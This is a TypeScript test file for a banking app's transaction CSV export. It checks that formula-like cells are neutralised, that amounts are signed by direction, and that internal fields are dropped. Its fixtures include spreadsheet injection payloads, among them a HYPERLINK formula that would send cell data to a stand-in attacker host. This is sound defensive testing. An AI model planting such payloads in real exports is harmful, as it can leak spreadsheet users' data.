import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { PartyView, TransactionView } from '../../../../../src-shared/ipc/channels/accounts';
import { transactionsCsv } from '../../../../../src-main/features/accounts/transactions-csv';
import { transactionView } from '../../../../../src-main/domain/account-views';
import { transactionSchema } from '../../../../../src-main/domain/bank-schemas';

const party = (name: string, iban = ''): PartyView => ({
  name,
  firstname: '',
  lastname: '',
  iban,
  bic: '',
  gbSortCode: '',
  gbAccountNumber: '',
  street: '',
  city: '',
  postcode: '',
  country: '',
  email: '',
  phone: '',
  company: '',
  euVatIdentifier: '',
  displayName: '',
});

const tx = (over: Partial<TransactionView>): TransactionView => ({
  identifier: 'TX1',
  uuid: 'u1',
  amount: '10.00',
  currency: 'EUR',
  direction: 'out',
  state: 'paid',
  method: 'sepa',
  submethod: 'sct',
  type: 'push',
  counterparty: party('Kesko Oyj', 'FI2112345600000785'),
  creditor: party('Kesko Oyj'),
  debtor: party('Me'),
  bookingDate: '2026-11-20',
  executionTimestamp: '2026-11-20T10:00:00Z',
  uxTimestamp: '2026-11-20T10:00:00Z',
  dueDate: null,
  unstructuredReference: 'Invoice 1',
  structuredReference: '',
  endToEndId: '',
  executionForDebt: null,
  description: 'Payment to Kesko Oyj',
  ...over,
});

describe('transactions CSV', () => {
  it('neutralises text cells a spreadsheet would run as a formula, and signs amounts by direction', () => {
    const csv = transactionsCsv([
      tx({
        counterparty: party('=HYPERLINK("http://evil.example")'),
        unstructuredReference: '@SUM(A1)',
        amount: '1234.56',
      }),
      tx({ identifier: 'TX2', direction: 'in', amount: '0.10', unstructuredReference: '-2+3', description: '\tcmd' }),
    ]);
    expect(csv.endsWith('\r\n')).toBe(true);
    const [header, out, inbound] = Papa.parse<string[]>(csv.trim()).data as [string[], string[], string[]];
    const col = (row: string[], name: string) => row[header.indexOf(name)];
    expect(col(out, 'counterparty')).toBe(`'=HYPERLINK("http://evil.example")`);
    expect(col(out, 'unstructured_reference')).toBe(`'@SUM(A1)`);
    expect(col(out, 'amount')).toBe('-1234.56');
    expect(col(inbound, 'amount')).toBe('0.10');
    expect(col(inbound, 'unstructured_reference')).toBe(`'-2+3`);
    expect(col(inbound, 'description')).toBe(`'\tcmd`);
  });

  it('neutralises the bank date columns too: a formula in execution_timestamp stays text', () => {
    const bankTransaction = {
      uuid: 'u',
      pool: 'p',
      creditor: {},
      debtor: {},
      counterparty: { name: 'Kesko Oyj' },
      amount: '-25.00',
      currency: 'EUR',
      ux_timestamp: '2026-11-20T10:00:00Z',
      execution_timestamp: '=HYPERLINK("http://evil.example/?"&A1,"2026-11-20")',
      booking_date: '+2026-11-20',
      due_date: '@NOW()',
      state: 'paid',
      method: 'sepa',
      type: 'push',
      direction: 'out',
      unstructured_reference: '',
      structured_reference: '',
      end_to_end_id: '',
      execution_for_debt: null,
      identifier: 'I',
      generic_description: '',
      submethod: '',
    };
    const csv = transactionsCsv([transactionView(transactionSchema.parse(bankTransaction))]);
    const [header, row] = Papa.parse<string[]>(csv.trim()).data as [string[], string[]];
    const col = (name: string) => row[header.indexOf(name)];
    expect(col('executed_at')).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"2026-11-20")`);
    expect(col('booking_date')).toBe(`'+2026-11-20`);
    expect(col('due_date')).toBe(`'@NOW()`);
    // The exact decimal amount is the one cell left as it is: a leading minus is a number, not a formula.
    expect(col('amount')).toBe('-25.00');
  });

  it('keeps only documented fields when mapping a bank transaction', () => {
    const raw = {
      uuid: 'u',
      pool: 'p',
      creditor: {},
      debtor: {},
      counterparty: { name: 'X', _secret_row: 'LEDGER-1' },
      amount: '1.00',
      currency: 'EUR',
      ux_timestamp: 't',
      execution_timestamp: 't',
      booking_date: 'd',
      due_date: null,
      state: 'paid',
      method: 'sepa',
      type: 'push',
      direction: 'in',
      unstructured_reference: '',
      structured_reference: '',
      end_to_end_id: '',
      execution_for_debt: null,
      identifier: 'I',
      generic_description: '',
      submethod: '',
      _internal_ledger_ref: 'LEDGER-1',
      scraper_session_id: 'scr-1',
    };
    const view = transactionView(transactionSchema.parse(raw));
    expect(JSON.stringify(view)).not.toMatch(/LEDGER|scr-1|_internal|_secret/);
    expect(view.counterparty.name).toBe('X');
  });
});
